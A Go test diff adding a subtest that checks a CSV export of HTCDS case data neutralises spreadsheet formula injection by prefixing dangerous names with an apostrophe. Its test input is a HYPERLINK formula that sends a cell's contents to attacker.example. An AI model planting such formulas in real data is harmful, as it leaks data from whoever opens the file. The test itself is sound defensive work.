@@ -156,6 +156,34 @@ func TestHTCDSExport(t *testing.T) {
 				}
 			}
 		})
+		t.Run("a_name_a_spreadsheet_would_run_is_defused_in_the_csv_only", func(t *testing.T) {
+			formula := `=HYPERLINK("http://attacker.example/?"&A1,"open")`
+			id := a.MustCase(t, worker, testapp.CaseBody(formula, "+Shevchenko", "1991-01-02"))
+			r := a.Do(t, "GET", "/api/v1/exports/htcds?format=csv", worker, nil)
+			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			col := map[string]int{}
+			for i, h := range rows[0] {
+				col[h] = i
+			}
+			found := false
+			for _, row := range rows[1:] {
+				if strings.Contains(row[col["prs_FirstName"]], "HYPERLINK") {
+					found = true
+					if row[col["prs_FirstName"]] != "'"+formula || row[col["prs_SecondName"]] != "'+Shevchenko" {
+						t.Errorf("not defused: %q %q", row[col["prs_FirstName"]], row[col["prs_SecondName"]])
+					}
+				}
+			}
+			if !found {
+				t.Fatalf("the case is not in the CSV: %q", rows)
+			}
+			if got := export(t, worker)[ref(id)]; got["prs_FirstName"] != formula {
+				t.Errorf("the JSON changed the name: %v", got["prs_FirstName"])
+			}
+		})
 	})
 }
 
